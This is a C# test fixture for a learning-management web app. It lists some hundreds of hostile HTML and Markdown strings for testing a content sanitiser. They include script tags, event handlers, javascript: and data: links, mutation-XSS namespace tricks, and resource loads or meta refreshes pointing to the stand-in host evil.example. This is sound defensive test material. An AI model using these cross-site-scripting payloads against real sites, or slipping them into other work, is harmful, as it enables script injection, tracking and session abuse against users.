namespace Lms.Tests.Web;

/// <summary>
/// Texts that would run something, fetch something or pass for something else, if what cleans them let them. Whatever would
/// run calls alert; whatever would be fetched is at evil.example or called x.
/// </summary>
internal static class HostileTexts
{
    private const string Picture = "/c/song-van/files/01934c1e-7a00-7000-8000-0123456789ab";

    public static readonly string[] Html =
    [
        "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>script>alert(1)<</script>/script>", "<img src=x onerror=alert(1)>",
        "<img src=`x`onerror=alert(1)>", "<img/src='x'/onerror='alert(1)'>", "<img src=x oNeRrOr\n=\nalert(1)>", "<p onclick=alert(1)>x</p>",
        "<p onmouseover\t=\"alert(1)\">x</p>", "<body onload=alert(1)>", "<a href='#' onfocus=alert(1) autofocus tabindex=1>x</a>",
        "<details open ontoggle=alert(1)>x</details>", "<video src=x onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>",
        "<marquee onstart=alert(1)>x</marquee>", "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>", "<a href=\"\u0001javascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>", "<a href=\"java\0script:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">x</a>", "<a href=\"&#0000106avascript:alert(1)\">x</a>", "<a href=\"java&Tab;script:alert(1)\">x</a>",
        "<a href=\"java&NewLine;script:alert(1)\">x</a>", "<a href=\"javascript&#58;alert(1)\">x</a>", "<a href=\"javascript://example.org/%0aalert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"VBScript:msgbox(1)\">x</a>", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>", "<a href=\"blob:https://x/y\">x</a>", "<a href=\"file:///etc/passwd\">x</a>",
        "<a href=\"//evil.example/\">x</a>", "<a href=\"/\\evil.example/\">x</a>", "<a href=\"\\\\evil.example\\\">x</a>", "<a href=\"https:/\\evil.example\">x</a>",
        "<a href=\"jar:https://x!/y\">x</a>", "<a href=\"view-source:x\">x</a>", "<a href=\"#content\">x</a>", "<a href=\"x\" target=_blank>x</a>",
        "<a ping=\"https://evil.example\" href=\"/a\">x</a>", "<img src=\"https://evil.example/track.gif\" alt=\"x\">", "<img src=\"//evil.example/t.gif\">",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "<img src=\"/sign-out\">", $"<img src=\"{Picture}/../../../sign-out\">",
        "<img srcset=\"https://evil.example/x 1x\">", "<img usemap=#x><map name=x><area href=javascript:alert(1)></map>", "<input type=image src=x onerror=alert(1)>",
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><use href=\"data:image/svg+xml,x#x\"/></svg>", "<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><annotation-xml encoding=\"text/html\"><p onclick=alert(1)>x</p></annotation-xml></math>", "<math href=\"javascript:alert(1)\">x</math>",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
        "<math><mi><table><mglyph><style><math><table id=\"</table></style><img src=x onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>", "<template><script>alert(1)</script></template>", "<style>*{background:url(javascript:alert(1))}</style>",
        "<style>@import '//evil.example/x.css';</style>", "<p style=\"background:url(//evil.example)\">x</p>", "<td style=\"text-align:right;background:url(//evil.example)\">x</td>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=//evil.example\">", "<base href=//evil.example/>", "<base target=_parent>",
        "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>x</button></form>", "<button popovertarget=x>x</button>", "<isindex action=javascript:alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
        "<frameset><frame src=javascript:alert(1)></frameset>", "<object data=javascript:alert(1)></object>", "<object><param name=src value=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>", "<applet code=x></applet>", "<portal src=//evil.example>", "<xmp><p title=\"</xmp><script>alert(1)</script>\">",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">", "<title><p title=\"</title><script>alert(1)</script>\">", "<plaintext><script>alert(1)</script>",
        "<noembed><p title=\"</noembed><script>alert(1)</script>\">", "<select><style></select><script>alert(1)</script>", "<table><script>alert(1)</script><tr><td onclick=alert(1)>x</table>",
        "<table><td><a href=javascript:alert(1)>x<table><a href=javascript:alert(1)>y", "<b><p></b><i onclick=alert(1)></p></i>", "<a href=/a><a href=javascript:alert(1)>x</a></a>",
        "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<!DOCTYPE html [<!ENTITY x '<script>'>]>&x;", "</p><script>alert(1)</script>", "<p id=\"content\">x</p>", "<sup id=\"fnx\">x</sup>", "<a id=\"fn:1 onclick\">x</a>",
        "<a name=\"getElementById\">x</a>", "<div class=\"menu__pane btn\">x</div>", "<div hx-get=\"/x\" hx-trigger=load data-hx-on=x>x</div>", "<div is=x-evil slot=x contenteditable>x</div>",
        "<x-evil onclick=alert(1)>x</x-evil>", "<ol start=\"1e9\" type=\"javascript:\"><li value=99999999>x</li></ol>", "<td colspan=99999 rowspan=-1>x</td>",
        "<a href=\"https://user@\u202Emoc.example\" onclick=x>x</a>", "<img src=x:alert(alt) onerror=eval(src) alt=0>", "<svg/onload=alert(1)//", "<img src=\"x\" alt=\"&quot; onerror=&quot;alert(1)\">",
        // Namespaces that a browser leaves and enters elsewhere than a reader thinks.
        "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc><p title=\"</desc><img src=x onerror=alert(1)>\">", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\"></style></h1>",
        "<svg><p><style><g title=\"</style><img src=x onerror=alert(1)>\">", "<svg><image href=x onerror=alert(1)>", "<svg><set attributeName=href to=javascript:alert(1)><a id=x>y</a>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a>", "<svg><discard onbegin=alert(1)>", "<svg><script href=data:,alert(1) />", "<svg><script xlink:href=data:,alert(1)></script>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>", "<math><a xlink:href=javascript:alert(1)>x", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
        // What changes when it is read a second time.
        "<form><input name=attributes><input name=parentNode></form><img src=x onerror=alert(1)>", "<p><table><tr><p><img src=x onerror=alert(1)></table>", "<a><table><a href=javascript:alert(1)>x</a></table></a>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<pre>\n\n&lt;img src=x onerror=alert(1)&gt;</pre>", "<div><textarea></div></textarea><img src=x onerror=alert(1)>", "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
        "<iframe></iframe/><img src=x onerror=alert(1)>", "<noembed></noembed/><script>alert(1)</script>", "<xmp></xmp/><img src=x onerror=alert(1)>", "<!--a--!><script>alert(1)</script>-->", "<!-->--><script>alert(1)</script>", "<? foo=\"><script>alert(1)</script>\">", "</ foo=\"><script>alert(1)</script>\">",
        "<p title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>", "<img alt=\"`><img src=x onerror=alert(1)>\" src=x>", "<a title='\"><img src=x onerror=alert(1)>' href=/a>x</a>", "<b title='--><img src=x onerror=alert(1)>'>x</b>",
        // Handlers, also the new ones.
        "<p onpointerover=alert(1) onbeforetoggle=alert(1) onscrollend=alert(1)>x</p>", "<p onanimationstart=alert(1) style=\"animation:x 1s\">x</p>", "<p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</p>", "<input onfocus=alert(1) autofocus>",
        "<select onfocus=alert(1) autofocus>", "<body onpageshow=alert(1)>", "<body onhashchange=alert(1)>", "<img src=x onerror\u000C=alert(1)>", "<img src=x onerror\u000B=alert(1)>", "<img/onerror=alert(1)/src=x>", "<img src=x \"onerror=alert(1)>", "<img src=x onerror=&#97;lert(1)>", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
        "<video><source onerror=alert(1)></video>", "<video poster=//evil.example/p.png>", "<audio src=//evil.example/a.mp3 autoplay>", "<track src=//evil.example/t.vtt default>",
        // Addresses.
        "<a href=\"java\u00ADscript:alert(1)\">x</a>", "<a href=\"javascript\u2028:alert(1)\">x</a>", "<a href=\"\u00A0javascript:alert(1)\">x</a>", "<a href=\"java&#13;script:alert(1)\">x</a>", "<a href=\"&#1;javascript:alert(1)\">x</a>", "<a href=\"javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>\">x</a>",
        "<a href=\"data:text/html;charset=utf-7;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", "<a href=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">x</a>", "<a href=\"filesystem:https://x/temporary/y\">x</a>", "<area href=javascript:alert(1)>", "<a xml:base=\"javascript:alert(1)//\" href=\"#\">x</a>",
        // What fetches without being asked.
        "<img srcset=\"//evil.example/a.png 1x, //evil.example/b.png 2x\" src=x>", "<picture><source srcset=//evil.example/p.png><img src=x></picture>", "<img src=x dynsrc=//evil.example/d lowsrc=//evil.example/l>", "<table background=//evil.example/b.png><tr><td background=//evil.example/c.png>x", "<body background=//evil.example/b.png>",
        "<input type=image src=//evil.example/i.png>", "<link rel=preload as=image href=//evil.example/p.png>", "<link rel=dns-prefetch href=//evil.example>", "<link rel=import href=//evil.example/i.html>", "<link rel=icon href=//evil.example/f.ico>", "<link rel=modulepreload href=//evil.example/m.js>", "<script type=importmap>{\"imports\":{\"a\":\"//evil.example/a.js\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"//evil.example\"]}]}</script>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>", "<meta http-equiv=Set-Cookie content=a=b>", "<meta name=referrer content=unsafe-url>", "<p style='list-style:url(//evil.example/l.png)'>x</p>", "<p style=\"width:expression(alert(1))\">x</p>", "<style>@font-face{font-family:x;src:url(//evil.example/f.woff)}p{font-family:x}</style><p>x</p>", "<style>p{background:image-set('//evil.example/i.png' 1x)}</style><p>x</p>", "<blockquote cite=javascript:alert(1)>x</blockquote>", "<q cite=//evil.example>x</q>", "<del cite=javascript:alert(1)>x</del>",
        "<iframe src=//evil.example></iframe>", "<object data=//evil.example/o.swf type=application/x-shockwave-flash></object>", "<embed src=//evil.example/e.swf>", "<fencedframe></fencedframe>", "<webview src=//evil.example></webview>",
        // What goes under another's name.
        "<a id=content name=content>x</a>", "<form id=preferences><input name=action></form>", "<img name=body src=x>", "<p id=__proto__>x</p>", "<a id=defaultView href=\"cid:x\">x</a>", "<p class=\"dialog open\" role=dialog aria-modal=true>x</p>", "<p hx-get=//evil.example hx-trigger=load>x</p>", "<p data-hx-on:load=alert(1) hx-on::load=alert(1)>x</p>", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<div><template shadowrootmode=open><style>@import '//evil.example/s.css'</style></template></div>",
        "<slot onslotchange=alert(1)>x</slot>", "<p is=x-y contenteditable autofocus onfocus=alert(1)>x</p>", "<button popovertarget=x>x</button><p id=x popover onbeforetoggle=alert(1)>y</p>", "<p slot=x part=y exportparts=z accesskey=x onclick=alert(1)>x</p>",
    ];

    public static readonly string[] Markdown =
    [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html,x)",
        "[x](vbscript:x)",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "![x](https://evil.example/x.png)",
        "![x](/sign-out)",
        "[x](/a \"\\\" onclick=alert(1) \\\"\")",
        "[^a]\n\n[^a]: [x](javascript:alert(1))",
        "| [x](javascript:alert(1)) |\n|-|\n| <script>alert(1)</script> |",
        "^^^ <script>alert(1)</script>\nx\n^^^ [x](javascript:alert(1))",
        "```html\" onclick=\"alert(1)\n<script>alert(1)</script>\n```",
        "[x](java\\script:alert(1))", "[x](javascript&colon;alert(1))", "[x](  javascript:alert(1) )", "[x](<javascript:alert(1)> \"t\")", "[x]: javascript:alert(1)\n\n[x]", "[x]: <data:text/html,<script>alert(1)</script>>\n\n[x][]", "[![x](javascript:alert(1))](javascript:alert(1))",
        "![x](data:image/svg+xml,<svg/onload=alert(1)>)", "![x\" onerror=\"alert(1)](/c/song-van/files/01934c1e-7a00-7000-8000-0123456789ab)", "![x](/c/song-van/files/01934c1e-7a00-7000-8000-0123456789ab \"\\\" onerror=\\\"alert(1)\")", "![x](//evil.example/i.png)", "![x](\\\\evil.example\\i.png)",
        "<vbscript:alert(1)>", "<data:text/html,alert(1)>", "<https://evil.example/\"onmouseover=alert(1)>", "https://evil.example/\"onmouseover=alert(1)//", "www.evil.example/<img/src=x/onerror=alert(1)>", "http://a/%22onclick=alert(1)", "javascript://example.org/%0aalert(1)",
        "```\"><img src=x onerror=alert(1)>\nx\n```", "~~~ html onclick=alert(1)\n<script>alert(1)</script>\n~~~", "    <script>alert(1)</script>", "`<img src=x onerror=alert(1)>`", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x", "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
        ":::luu-y\" onclick=\"alert(1)\nx\n:::", "::: luu-y <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n:::", ":::{onclick=alert(1)}\nx\n:::", "{onclick=alert(1)}\n# x", "# x {onclick=alert(1) #content}", "x {.a onclick=\"alert(1)\"}", "::[x]{onclick=alert(1)}::",
        "| a |\n|:-:\" onclick=\"alert(1)|\n| <img src=x onerror=alert(1)> |", "^^^ \" onclick=\"alert(1)\nx\n^^^", "Từ\n:   <img src=x onerror=alert(1)>", "@[<img src=x onerror=alert(1)>]", "@[\"><script>alert(1)</script>]", "==<img src=x onerror=alert(1)>==", "a. <script>alert(1)</script>\nb. x", "&lt;img src=x onerror=alert(1)&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<!-- x\n--!><script>alert(1)</script>", "<?php echo 1 ?><script>alert(1)</script>", "<![CDATA[x]]><script>alert(1)</script>", "\\<img src=x onerror=alert(1)\\>", "[x](/a \"<img src=x onerror=alert(1)>\")", "[<img src=x onerror=alert(1)>](/a)", "![<img src=x onerror=alert(1)>](x)",
    ];
}
